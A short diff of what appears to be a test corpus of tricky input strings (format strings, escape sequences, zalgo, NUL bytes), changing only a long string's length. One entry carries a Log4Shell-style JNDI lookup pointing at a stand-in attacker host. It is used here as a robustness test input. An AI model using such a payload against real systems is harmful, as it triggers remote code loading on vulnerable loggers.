@@ -61,7 +61,7 @@ CORPUS = {
     "format strings": "{0.__class__} %s %(x)s ${jndi:ldap://evil.example}",
     "json": '"}\\u001b[31m{"event": "summary"',
     "zalgo": "z" + "\u0300\u0489\u20dd" * 200,
-    "very long": "가" * 20_000,
+    "very long": "가" * 5_000,
     "nul": "a\x00b\x7f",
 }
 HIDDEN = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
